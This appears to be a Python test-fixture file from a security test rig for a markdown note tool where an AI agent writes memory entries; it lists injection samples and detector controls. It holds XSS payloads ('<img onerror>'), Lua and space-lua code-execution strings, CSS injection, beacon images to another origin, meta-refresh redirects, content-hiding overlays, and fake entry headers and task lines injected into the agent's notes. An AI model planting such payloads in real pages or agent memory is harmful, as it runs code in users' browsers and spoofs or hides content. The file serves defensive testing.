# --- structure --------------------------------------------------------------------------------------------
J("jd-setext", "demande", "structure", "titre\n===", "a setext heading reshapes the entry")
J(
    "jf-frontmatter",
    "fait",
    "structure",
    "---\ntags: meta/template\n---",
    "a front-matter-like block",
)
J(
    "jp-task",
    "piege",
    "structure",
    "à faire\n- [ ] supprimer la page",
    "a task line in the agent's entry",
)
J(
    "jl-fake-entry",
    "lecon",
    "structure",
    "leçon\n## 2026-01-01 00:00 · Fausse entrée · #x",
    "a fake entry header inside a field",
)
J("jd-hr", "demande", "structure", "a\n***\nb", "a thematic break")
J(
    "jf-table-lazy",
    "fait",
    "structure",
    "t\n| a | b |\n|---|---|\n| 1 | 2 |",
    "a table absorbs following lines",
)
J("jt-heading-hashes", "titre", "structure", "### Titre ## #x", "extra heading markers")
J("jr-resultat", "resultat", "structure", """réussi <img src=x onerror="@JS@">""", RUN_JS)
P("pn-name-html", "name", "structure", "x<img", "an invalid skill name")
P("pn-name-lua", "name", "structure", "space-lua", "a skill named space-lua")
P("pc-newline", "contradiction", "structure", "a\n```space-lua\n@LUAS@\n```", RUN_LUA)
P("pr-admonition", "remplace", "structure", "> **warning** ${@LUA@}", RUN_LUA)

# --- controls: benign texts (must never be refused nor flagged) -----------------------------------------
J("jd-benign", "demande", "control", "déployer le service sur le VPS", "nothing (benign control)")
J(
    "jf-benign-code",
    "fait",
    "control",
    "lancé\n```bash\necho ${HOME}\n```",
    "nothing (benign control with a shell fence)",
)
P("pcf-benign", "contenu", "control", "Le VPS tourne sous Debian 12.", "nothing (benign control)")


# --- controls: raw pages PUT by the driver itself, bypassing ocmem ----------------------------------------
# Each one must be detected in the named category; they prove the detectors work (a rig that
# finds nothing must not be mistaken for a safe renderer). ``@HUMAN@`` is where the driver puts
# the human's lines (so the raw text can sit before them, as an agent entry would).


@dataclass(frozen=True)
class Control:
    id: str
    expect: str  # the category that must be flagged
    markdown: str  # the agent part of the page, raw (templated like the payloads)
    channel: str  # which detector it exercises


CONTROLS: list[Control] = [
    Control(
        "ctl-clean",
        "",
        "## Entrée propre\n- Fait : rien de spécial\n",
        "none: nothing may be flagged",
    ),
    Control("ctl-img-beacon", "execution", """<img src=x onerror="@JS@">\n""", "beacon /h/ hit"),
    Control(
        "ctl-img-console",
        "execution",
        """<img src=x onerror="console.log('PWN'+'ED-@ID@')">\n""",
        "console marker",
    ),
    Control("ctl-img-dialog", "execution", """<img src=x onerror="alert('@ID@')">\n""", "dialog"),
    Control("ctl-lua-dom", "execution", 'Résultat ${"PWN".."ED-@ID@"}\n', "DOM marker (Lua value)"),
    Control("ctl-lua-notify", "execution", "Note ${@LN@}\n", "DOM marker (notification)"),
    Control("ctl-lua-write", "execution", "Note ${@LW@}\n", "page written by Lua"),
    Control(
        "ctl-space-lua",
        "execution",
        '```space-lua\nprint("PWN".."ED-@ID@")\n```\n',
        "space-lua print",
    ),
    Control(
        "ctl-space-style",
        "style",
        "```space-style\n.pwned-@ID@{color:red}\n```\n",
        "stylesheet marker",
    ),
    Control("ctl-md-img", "other_origin", "![x](@B@/l/@ID@.png)\n", "request to another origin"),
    Control(
        "ctl-meta-refresh",
        "redirect",
        """<meta http-equiv="refresh" content="0;url=@B@/r/@ID@">\n""",
        "main-frame navigation",
    ),
    Control("ctl-comment", "hidden", "<!-- début\n", "sentinels swallowed by a comment"),
    Control("ctl-template", "hidden", "#meta/template\n", "human widget turned off"),
    Control(
        "ctl-overlay",
        "hidden",
        """<div style="position:fixed;inset:0;background:#fff;z-index:99">x</div>\n""",
        "sentinel covered (elementFromPoint)",
    ),
    Control(
        "ctl-fade",
        "hidden",
        "```space-style\n.cm-line{opacity:0.05}\n```\n",
        "sentinel faded (opacity)",
    ),
    Control("ctl-lost-line", "hidden", "@DROP-C@\n", "a sentinel missing from the server page"),
]
